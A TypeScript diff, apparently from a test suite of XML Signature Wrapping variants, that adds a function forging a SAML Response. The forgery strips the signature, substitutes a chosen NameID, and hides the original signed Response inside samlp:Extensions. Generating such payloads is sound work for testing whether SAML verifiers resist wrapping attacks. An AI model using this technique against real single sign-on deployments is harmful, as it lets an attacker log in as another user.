@@ -72,3 +72,19 @@ export const XSW_VARIANTS: Record<string, (signedXml: string, nameId: string) =>
     return serialize(doc);
   },
 };
+
+/** XSW1/2 style on a signed Response: a forged, unsigned Response wraps the signed one (in Extensions). */
+export function wrapSignedResponse(signedXml: string, nameId: string): string {
+  const { doc, response: signedResponse } = parse(signedXml);
+  const forged = signedResponse.cloneNode(true) as Element;
+  const signature = forged.getElementsByTagNameNS(DSIG_NS, 'Signature').item(0);
+  if (signature) forged.removeChild(signature);
+  forged.setAttribute('ID', '_forgedresponse00000000000000000000');
+  const nameIdNode = forged.getElementsByTagNameNS(ASSERTION_NS, 'NameID').item(0);
+  if (nameIdNode) nameIdNode.textContent = nameId;
+  const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
+  extensions.appendChild(signedResponse.cloneNode(true));
+  forged.insertBefore(extensions, forged.getElementsByTagNameNS('urn:oasis:names:tc:SAML:2.0:protocol', 'Status').item(0));
+  doc.replaceChild(forged, signedResponse);
+  return serialize(doc);
+}
